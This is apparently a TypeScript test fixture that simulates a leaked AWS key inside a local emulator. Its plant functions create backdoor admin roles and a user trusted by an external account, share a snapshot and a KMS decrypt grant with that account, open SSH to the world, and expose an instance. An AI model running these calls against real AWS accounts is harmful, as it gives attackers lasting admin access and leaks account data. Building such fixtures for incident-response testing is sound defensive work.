import { generateKeyPairSync } from "node:crypto";
import * as ec2 from "@aws-sdk/client-ec2";
import * as iam from "@aws-sdk/client-iam";
import { AssumeRoleCommand, STSClient } from "@aws-sdk/client-sts";
import type { Credentials, LocalAws } from "./local-aws";
import { runIn, terraformEnvironment } from "./terraform";

const REGION = "eu-central-1";
const EXTERNAL = "210987654321";
const trust = (principal: object) =>
  JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" }] });
const ADMIN = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] });
export const EC2_TRUST = trust({ Service: "ec2.amazonaws.com" });

/** A role, a group, and a KMS key that exist before the leak. */
export async function prepareAccount(aws: LocalAws): Promise<{ readonly kmsKey: string }> {
  const admin = aws.iam();
  await admin.send(new iam.CreateRoleCommand({ RoleName: "dev-node", AssumeRolePolicyDocument: EC2_TRUST }));
  await admin.send(new iam.CreateGroupCommand({ GroupName: "admins" }));
  return { kmsKey: cli(aws, undefined, "kms create-key --query KeyMetadata.KeyId --output text") };
}

/** Runs the AWS CLI. @param key default: an administrator. @throws Error with its output */
export function cli(aws: LocalAws, key: Credentials | undefined, command: string): string {
  const environment = { ...terraformEnvironment(aws, key), AWS_REGION: REGION, AWS_DEFAULT_REGION: REGION };
  const { status, output } = runIn("/", environment, "aws", ...command.split(" "));
  if (status !== 0) {
    throw new Error(`aws ${command}: ${output}`);
  }
  return output.trim();
}

/** Objects of every kind that the local AWS supports, created with a leaked key. Returns the keys and sessions that the attacker has then. */
export async function plant(aws: LocalAws, leaked: Credentials, { kmsKey }: { readonly kmsKey: string }) {
  const session = await aws.session(leaked);
  const role = await plantRoles(aws, leaked);
  const bob = await plantUser(aws, leaked);
  await plantNetwork(aws, leaked);
  await aws.ec2(session).send(new ec2.ImportKeyPairCommand({ KeyName: "by-session", PublicKeyMaterial: sshPublicKey() }));
  await aws.ec2(role).send(new ec2.CreateVpcCommand({ CidrBlock: "10.90.0.0/16" }));
  await aws.ec2(bob).send(new ec2.AllocateAddressCommand({ Domain: "vpc" }));
  cli(aws, leaked, `kms create-grant --key-id ${kmsKey} --grantee-principal arn:aws:iam::${EXTERNAL}:root --operations Decrypt`);
  return { session, role, bob };
}

async function plantRoles(aws: LocalAws, leaked: Credentials): Promise<Credentials> {
  const client = aws.iam(leaked);
  const RoleName = "evil";
  await client.send(
    new iam.CreateRoleCommand({ RoleName, AssumeRolePolicyDocument: trust({ AWS: `arn:aws:iam::${EXTERNAL}:root` }) }),
  );
  await client.send(new iam.PutRolePolicyCommand({ RoleName, PolicyName: "all", PolicyDocument: ADMIN }));
  const { Policy } = await client.send(new iam.CreatePolicyCommand({ PolicyName: "evil-policy", PolicyDocument: ADMIN }));
  await client.send(new iam.AttachRolePolicyCommand({ RoleName, PolicyArn: Policy?.Arn }));
  await client.send(new iam.CreateInstanceProfileCommand({ InstanceProfileName: "evil-profile" }));
  await client.send(new iam.AddRoleToInstanceProfileCommand({ InstanceProfileName: "evil-profile", RoleName }));
  await client.send(new iam.PutRolePolicyCommand({ RoleName: "dev-node", PolicyName: "evil", PolicyDocument: ADMIN }));
  await client.send(new iam.UpdateAssumeRolePolicyCommand({ RoleName: "dev-node", PolicyDocument: trust({ AWS: "*" }) }));
  const sts = new STSClient({ endpoint: aws.url, region: REGION, credentials: leaked, maxAttempts: 1 });
  const RoleArn = `arn:aws:iam::123456789012:role/${RoleName}`;
  const { Credentials: given } = await sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: "attacker" }));
  return {
    accessKeyId: given?.AccessKeyId ?? "",
    secretAccessKey: given?.SecretAccessKey ?? "",
    sessionToken: given?.SessionToken,
  };
}

async function plantUser(aws: LocalAws, leaked: Credentials): Promise<Credentials> {
  const client = aws.iam(leaked);
  const UserName = "bob";
  await client.send(new iam.CreateUserCommand({ UserName }));
  await client.send(new iam.CreateLoginProfileCommand({ UserName, Password: "Attacker-123456" }));
  await client.send(new iam.PutUserPolicyCommand({ UserName, PolicyName: "all", PolicyDocument: ADMIN }));
  const PolicyArn = "arn:aws:iam::123456789012:policy/evil-policy";
  await client.send(new iam.AttachUserPolicyCommand({ UserName, PolicyArn }));
  await client.send(new iam.AddUserToGroupCommand({ UserName, GroupName: "admins" }));
  await client.send(new iam.AttachGroupPolicyCommand({ GroupName: "admins", PolicyArn }));
  await client.send(new iam.PutGroupPolicyCommand({ GroupName: "admins", PolicyName: "all", PolicyDocument: ADMIN }));
  const { AccessKey } = await client.send(new iam.CreateAccessKeyCommand({ UserName }));
  return { accessKeyId: AccessKey?.AccessKeyId ?? "", secretAccessKey: AccessKey?.SecretAccessKey ?? "" };
}

async function plantNetwork(aws: LocalAws, leaked: Credentials): Promise<void> {
  const client = aws.ec2(leaked);
  const { Vpc } = await client.send(new ec2.CreateVpcCommand({ CidrBlock: "10.91.0.0/16" }));
  const VpcId = Vpc?.VpcId;
  const { Subnet } = await client.send(new ec2.CreateSubnetCommand({ VpcId, CidrBlock: "10.91.0.0/24" }));
  const SubnetId = Subnet?.SubnetId;
  const { InternetGateway } = await client.send(new ec2.CreateInternetGatewayCommand({}));
  const InternetGatewayId = InternetGateway?.InternetGatewayId;
  await client.send(new ec2.AttachInternetGatewayCommand({ InternetGatewayId, VpcId }));
  const { RouteTable } = await client.send(new ec2.CreateRouteTableCommand({ VpcId }));
  const RouteTableId = RouteTable?.RouteTableId;
  await client.send(
    new ec2.CreateRouteCommand({ RouteTableId, DestinationCidrBlock: "0.0.0.0/0", GatewayId: InternetGatewayId }),
  );
  await client.send(new ec2.AssociateRouteTableCommand({ RouteTableId, SubnetId }));
  const { Vpcs = [] } = await client.send(new ec2.DescribeVpcsCommand({ Filters: [{ Name: "is-default", Values: ["true"] }] }));
  const peering = { VpcId, PeerVpcId: Vpcs[0]?.VpcId, PeerOwnerId: "123456789012" };
  const { VpcPeeringConnection } = await client.send(new ec2.CreateVpcPeeringConnectionCommand(peering));
  const { VpcPeeringConnectionId } = VpcPeeringConnection ?? {};
  await client.send(new ec2.AcceptVpcPeeringConnectionCommand({ VpcPeeringConnectionId }));
  const { GroupId } = await client.send(new ec2.CreateSecurityGroupCommand({ GroupName: "evil", Description: "evil", VpcId }));
  const opening = { IpProtocol: "tcp", FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: "0.0.0.0/0" }] };
  await client.send(new ec2.AuthorizeSecurityGroupIngressCommand({ GroupId, IpPermissions: [opening] }));
  await client.send(new ec2.AuthorizeSecurityGroupEgressCommand({ GroupId, IpPermissions: [opening] }));
  await client.send(new ec2.CreateKeyPairCommand({ KeyName: "evil" }));
  const { Instances = [] } = await client.send(
    new ec2.RunInstancesCommand({
      ImageId: "ami-12c6146b",
      InstanceType: "t3.micro",
      MinCount: 1,
      MaxCount: 1,
      KeyName: "evil",
      SubnetId,
      SecurityGroupIds: [GroupId ?? ""],
      IamInstanceProfile: { Name: "evil-profile" },
    }),
  );
  const InstanceId = Instances[0]?.InstanceId;
  const { VolumeId } = await client.send(new ec2.CreateVolumeCommand({ AvailabilityZone: `${REGION}a`, Size: 1 }));
  await client.send(new ec2.AttachVolumeCommand({ VolumeId, InstanceId, Device: "/dev/sdh" }));
  const { SnapshotId } = await client.send(new ec2.CreateSnapshotCommand({ VolumeId }));
  const Attribute = "createVolumePermission";
  const CreateVolumePermission = { Add: [{ UserId: EXTERNAL }] };
  await client.send(new ec2.ModifySnapshotAttributeCommand({ SnapshotId, Attribute, CreateVolumePermission }));
  await client.send(new ec2.CreateNetworkInterfaceCommand({ SubnetId }));
  const { AllocationId } = await client.send(new ec2.AllocateAddressCommand({ Domain: "vpc" }));
  await client.send(new ec2.AssociateAddressCommand({ AllocationId, InstanceId }));
  const group = cli(
    aws,
    leaked,
    `elbv2 create-target-group --name evil --protocol TCP --port 80 --vpc-id ${VpcId} --query TargetGroups[0].TargetGroupArn --output text`,
  );
  cli(aws, leaked, `elbv2 register-targets --target-group-arn ${group} --targets Id=${InstanceId}`);
  const balancer = cli(
    aws,
    leaked,
    `elbv2 create-load-balancer --name evil --type network --subnets ${SubnetId} --query LoadBalancers[0].LoadBalancerArn --output text`,
  );
  cli(
    aws,
    leaked,
    `elbv2 create-listener --load-balancer-arn ${balancer} --protocol TCP --port 80 --default-actions Type=forward,TargetGroupArn=${group}`,
  );
}

/** A public key in the format of OpenSSH (RFC 4253, section 6.6; RFC 8709, section 4): its type and its 32 bytes. */
function sshPublicKey(): Buffer {
  const { publicKey } = generateKeyPairSync("ed25519");
  const bytes = publicKey.export({ type: "spki", format: "der" }).subarray(-32);
  const fields = [Buffer.from("ssh-ed25519"), bytes].flatMap((field) => [Buffer.from([0, 0, 0, field.length]), field]);
  return Buffer.from(`ssh-ed25519 ${Buffer.concat(fields).toString("base64")}`);
}

/** What a clean account contains besides what AWS creates itself: names and IDs by kind. */
export async function inventory(aws: LocalAws): Promise<Readonly<Record<string, readonly unknown[]>>> {
  const [admin, client] = [aws.iam(), aws.ec2()];
  const names = async (command: string, query: string) =>
    cli(aws, undefined, `${command} --query ${query} --output text`).split(/\s+/).sort();
  const { Roles = [] } = await admin.send(new iam.ListRolesCommand({}));
  const { Users = [] } = await admin.send(new iam.ListUsersCommand({}));
  const { Policies = [] } = await admin.send(new iam.ListPoliciesCommand({ Scope: "Local" }));
  const { InstanceProfiles = [] } = await admin.send(new iam.ListInstanceProfilesCommand({}));
  const { PolicyNames = [] } = await admin.send(new iam.ListRolePoliciesCommand({ RoleName: "dev-node" }));
  const { Role } = await admin.send(new iam.GetRoleCommand({ RoleName: "dev-node" }));
  const group = { GroupName: "admins" };
  const { PolicyNames: ofGroup = [] } = await admin.send(new iam.ListGroupPoliciesCommand(group));
  const { AttachedPolicies = [] } = await admin.send(new iam.ListAttachedGroupPoliciesCommand(group));
  const { Users: members = [] } = await admin.send(new iam.GetGroupCommand(group));
  const { Reservations = [] } = await client.send(new ec2.DescribeInstancesCommand({}));
  const instances = Reservations.flatMap(({ Instances = [] }) => Instances);
  const { VpcPeeringConnections = [] } = await client.send(new ec2.DescribeVpcPeeringConnectionsCommand({}));
  const { Snapshots = [] } = await client.send(new ec2.DescribeSnapshotsCommand({ OwnerIds: ["123456789012"] }));
  const { NetworkInterfaces = [] } = await client.send(new ec2.DescribeNetworkInterfacesCommand({}));
  return {
    roles: Roles.map(({ RoleName }) => RoleName),
    users: Users.map(({ UserName }) => UserName),
    policies: Policies.map(({ PolicyName }) => PolicyName),
    profiles: InstanceProfiles.map(({ InstanceProfileName }) => InstanceProfileName),
    nodeRole: [...PolicyNames, decodeURIComponent(Role?.AssumeRolePolicyDocument ?? "")],
    group: [...ofGroup, ...AttachedPolicies, ...members],
    instances: instances.filter(({ State }) => State?.Name !== "terminated").map(({ InstanceId }) => InstanceId),
    peerings: VpcPeeringConnections.filter(({ Status }) => Status?.Code !== "deleted"),
    snapshots: Snapshots.map(({ SnapshotId }) => SnapshotId),
    vpcs: (await client.send(new ec2.DescribeVpcsCommand({}))).Vpcs?.map(({ VpcId }) => VpcId) ?? [],
    subnets: (await client.send(new ec2.DescribeSubnetsCommand({}))).Subnets?.map(({ SubnetId }) => SubnetId) ?? [],
    groups: (await client.send(new ec2.DescribeSecurityGroupsCommand({}))).SecurityGroups?.map(({ GroupId }) => GroupId) ?? [],
    gateways: (await client.send(new ec2.DescribeInternetGatewaysCommand({}))).InternetGateways ?? [],
    routeTables:
      (await client.send(new ec2.DescribeRouteTablesCommand({}))).RouteTables?.map(({ RouteTableId }) => RouteTableId) ?? [],
    keyPairs: (await client.send(new ec2.DescribeKeyPairsCommand({}))).KeyPairs ?? [],
    addresses: (await client.send(new ec2.DescribeAddressesCommand({}))).Addresses ?? [],
    volumes: (await client.send(new ec2.DescribeVolumesCommand({}))).Volumes ?? [],
    // The emulator keeps the interface of a terminated instance.
    interfaces: NetworkInterfaces.filter(({ Attachment }) => Attachment?.InstanceId === undefined),
    balancers: await names("elbv2 describe-load-balancers", "LoadBalancers[].LoadBalancerArn"),
    targets: await names("elbv2 describe-target-groups", "TargetGroups[].TargetGroupArn"),
  };
}
